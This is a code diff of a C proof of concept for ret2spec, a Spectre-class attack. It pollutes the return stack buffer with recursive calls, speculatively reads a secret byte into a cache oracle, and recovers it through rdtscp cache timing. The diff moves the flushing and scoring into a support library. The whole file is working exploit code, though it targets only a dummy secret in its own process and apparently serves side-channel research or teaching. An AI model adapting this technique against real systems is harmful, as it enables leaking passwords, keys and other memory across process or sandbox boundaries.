@@ -1,107 +1,31 @@
 // Combined ret2spec C file
+//
+// The oracle, flushing and scoring come from the support library through its
+// C interface (att2_r2s/demos/safeside_c.h), so this experiment runs the same
+// hot paths as the C++ demos. The oracle is probed with the library's rdtscp
+// timer backend (RDTSCP followed by LFENCE) where the CPU supports it. Build against the library built in BUILD, e.g.:
+//
+//     cc -O1 -I../att2_r2s/demos 3rs2.c BUILD/libsafeside.a -lstdc++ -lm -lpthread
 #include <stdint.h>
 #include <stdlib.h>
 #include <stdio.h>
 #include <string.h>
 #include <stdbool.h>
 
-/* --- BEGIN MODIFIED BLOCK --- */
-#include <x86intrin.h>  // Added to support __rdtscp for accurate timing
-/* --- END MODIFIED BLOCK --- */
+#include "safeside_c.h"
 
-#include "asm/measurereadlatency.h"  
-
-// Cache line and page size (used for alignment and flushing)
-#define CACHE_LINE_SIZE 64
-#define PAGE_SIZE 4096
-#define ORACLE_SIZE 256          // One oracle entry per possible byte value
 #define MAX_RUNS 100000          // Maximum leak attempts before giving up
 #define K_RECURSION_DEPTH 30     // Depth of recursive calls to fill/underflow the RSB
 
-// Oracle byte array aligned to cache lines for each byte value
-typedef struct {
-    uint8_t byte[CACHE_LINE_SIZE];  // One cache line per possible byte value
-} BigByte;
-
-typedef struct {
-    BigByte oracles_[ORACLE_SIZE];  // 256 aligned cache-line entries
-} OracleArray;
-
-// Global oracle array used to trigger timing effects
-static OracleArray oracle;
-
-// Score array to accumulate timing hits for each byte candidate
-static int scores[ORACLE_SIZE] = {0};
+// Side channel in static storage; its oracle has one page per byte value.
+static SafesideCacheSideChannel channel;
+static const unsigned char *oracle;
+static size_t oracle_stride;
 
 // Pointer to the secret we want to leak
 extern const char *private_data;
 size_t current_offset;  // Index of the byte we want to leak from private_data
 
-// Forward declarations (actual implementations are likely in assembly)
-void FlushDataCacheLineNoBarrier(const void *addr);
-void MemoryAndSpeculationBarrier();
-void ForceRead(const void *addr);
-
-// Flush a range of memory from the data cache line-by-line
-void FlushFromDataCache(const void *start, const void *end) {
-    const uintptr_t begin = (uintptr_t)start;
-    const uintptr_t stop = (uintptr_t)end;
-    for (uintptr_t p = begin; p < stop; p += CACHE_LINE_SIZE) {
-        FlushDataCacheLineNoBarrier((const void*)p);  // Flush each line
-    }
-    MemoryAndSpeculationBarrier();  // Prevent reordering
-}
-
-// Flush the oracle array to prime the cache for timing detection
-void FlushOracle() {
-    for (int i = 0; i < ORACLE_SIZE; ++i) {
-        FlushDataCacheLineNoBarrier(&oracle.oracles_[i]);
-    }
-    MemoryAndSpeculationBarrier();
-}
-
-/* --- BEGIN MODIFIED BLOCK ---
- * Replace original RecomputeScores timing logic with low-level rdtscp-based latency probing
- * to emulate C++ cache_sidechannel.cc behavior and allow accurate detection of leaked cache hits
- */
-
-// Measure time to access address using rdtscp
-static inline uint64_t MeasureAccessTime(const void *addr) {
-    uint64_t start, end;
-    volatile uint8_t val;
-    unsigned int junk;
-
-    start = __rdtscp(&junk);
-    val = *(volatile uint8_t *)addr;
-    end = __rdtscp(&junk);
-
-    return end - start;
-}
-
-// Measure which oracle entry was accessed (i.e., leaked) based on timing
-char RecomputeScores(char safe_char) {
-    int best = -1;
-    int best_score = 0;
-    const int threshold = 80;  // Cycle threshold to consider cache hit
-
-    for (int i = 0; i < ORACLE_SIZE; ++i) {
-        int mix_i = (i * 167 + 13) & 0xFF;
-        uint8_t *probe_addr = &oracle.oracles_[mix_i].byte[0];
-        uint64_t time = MeasureAccessTime(probe_addr);
-
-        if (time < threshold && mix_i != (unsigned char)safe_char) {
-            scores[mix_i]++;
-            if (scores[mix_i] > best_score) {
-                best_score = scores[mix_i];
-                best = mix_i;
-            }
-        }
-    }
-
-    return (char)best;  // Return best guess for leaked byte
-}
-/* --- END MODIFIED BLOCK --- */
-
 // Global state for controlling speculative function execution
 bool false_value = 0;
 void (*return_true_base_case)();     // Normally a NOP
@@ -112,16 +36,25 @@ char *stack_marks[256];
 int stack_index = 0;
 
 // Function that never returns true — used to pollute the RSB
-void ReturnsFalse(int depth) {
+bool ReturnsFalse(int depth) {
     if (depth > 0) {
-        ReturnsFalse(depth - 1);  // Recurse to fill RSB
+        if (ReturnsFalse(depth - 1)) {  // Recurse to fill RSB
+            // Unreachable architecturally. Reached speculatively when a
+            // ReturnsTrue frame returns here through a mispredicted return.
+            SafesideForceRead(
+                oracle + oracle_stride *
+                             (unsigned char)private_data[current_offset]);
+            fprintf(stderr, "Dead code. Must not be printed.\n");
+            exit(1);
+        }
     } else {
         return_true_base_case();  // Triggers speculative return
     }
+    return false_value;
 }
 
 // Function that always returns true — mispredicted to call ReturnsFalse
-void ReturnsTrue(int depth) {
+bool ReturnsTrue(int depth) {
     char mark;  // Local variable to mark this stack frame
     stack_marks[stack_index++] = &mark;
 
@@ -131,15 +64,18 @@ void ReturnsTrue(int depth) {
         return_false_base_case();  // Deepest call starts the false path
     }
 
-    // On return, flush stack region between current and previous mark
+    // On return, flush stack region between current and previous mark, so
+    // that this frame's return address is uncached right before it is used
     stack_index--;
-    FlushFromDataCache(&mark, stack_marks[stack_index]);
+    SafesideFlushFromDataCache(&mark, stack_marks[stack_index]);
+    return true;
 }
 
 // Attempt to leak one byte via speculative return and cache timing
 char Ret2SpecLeakByte() {
+    SafesideCacheSideChannelResetScores(&channel);
     for (int run = 0; run < MAX_RUNS; ++run) {
-        FlushOracle();  // Clear oracle from cache
+        SafesideCacheSideChannelFlushOracle(&channel);  // Clear oracle from cache
 
         // Stack mark to prevent reading uninitialized stack_marks[0]
         char mark;
@@ -150,9 +86,11 @@ char Ret2SpecLeakByte() {
 
         stack_index = 0;  // Reset after recursion unwinds
 
-        // Recompute which byte was cached speculatively
-        char leaked = RecomputeScores((char)(run & 0xFF));
-        if (scores[(unsigned char)leaked] > 3) {
+        // Recompute which byte was cached speculatively; the library adds an
+        // architectural hit to compare against
+        char leaked;
+        if (SafesideCacheSideChannelAddHitAndRecomputeScores(&channel,
+                                                             &leaked)) {
             return leaked;  // If high enough confidence, return byte
         }
     }
@@ -173,7 +111,22 @@ void ReturnsFalseStart() {
 // The secret to be leaked (normally inaccessible)
 const char *private_data = "It's a s3kr3t!!!";
 
+
 int main() {
+    SafesideCacheSideChannelInit(&channel);
+    oracle = SafesideCacheSideChannelOracle(&channel);
+    oracle_stride = SafesideCacheSideChannelOracleStride();
+
+    // Time the probes with RDTSCP rather than the native MFENCE+LFENCE and
+    // RDTSC sequence
+    const SafesideTimer *rdtscp = SafesideFindTimer("rdtscp");
+    if (rdtscp != NULL && SafesideTimerAvailable(rdtscp)) {
+        SafesideCacheSideChannelSetTimer(&channel, rdtscp);
+    } else {
+        fprintf(stderr, "RDTSCP is not available, using %s\n",
+                SafesideTimerName(SafesideNativeTimer()));
+    }
+
     // Initialize function pointers
     return_true_base_case = NopFunction;
     return_false_base_case = ReturnsFalseStart;
@@ -187,5 +140,6 @@ int main() {
     }
 
     printf("\nDone.\n");
+    SafesideCacheSideChannelDestroy(&channel);
     return 0;
 }